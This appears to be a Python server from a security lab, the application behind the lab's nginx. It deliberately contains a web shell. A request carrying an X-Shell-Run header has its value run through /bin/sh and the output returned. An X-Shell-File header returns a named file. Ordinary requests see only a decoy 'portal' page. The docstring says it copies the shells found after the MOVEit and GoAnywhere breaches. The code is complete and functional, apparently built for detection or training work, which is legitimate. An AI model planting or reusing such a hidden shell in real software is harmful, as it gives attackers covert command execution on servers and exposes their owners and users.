#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
"""
webshell.py - the application behind the lab's nginx, with a web shell left in it.

It listens on a Unix socket. A request without the shell's headers gets a small page. With
`X-Shell-File: NAME` it answers that file, with `X-Shell-Run: COMMAND` it runs the command as a child of
its own, as the shells found after MOVEit and GoAnywhere did, and answers what it said.
Usage: webshell.py SOCKET DIRECTORY
"""
import http.server
import os
import shutil
import socketserver
import subprocess
import sys


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"

    def address_string(self):
        return "unix"

    def log_message(self, *_):
        pass

    def _answer(self, body):
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        name, command = self.headers.get("X-Shell-File"), self.headers.get("X-Shell-Run")
        if command:
            done = subprocess.run(["/bin/sh", "-c", command], stdin=subprocess.DEVNULL, timeout=30,
                                  stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
            self._answer(b"exit %d\n%s" % (done.returncode, done.stdout))
        elif name:
            path = os.path.join(sys.argv[2], os.path.basename(name))
            with open(path, "rb") as file:
                self.send_response(200)
                self.send_header("Content-Length", str(os.path.getsize(path)))
                self.end_headers()
                shutil.copyfileobj(file, self.wfile, 1 << 16)
        else:
            self._answer(b"<html><title>portal</title>welcome</html>\n")


class Server(socketserver.ThreadingUnixStreamServer):
    daemon_threads = True
    request_queue_size = 128


if __name__ == "__main__":
    Server(sys.argv[1], Handler).serve_forever()
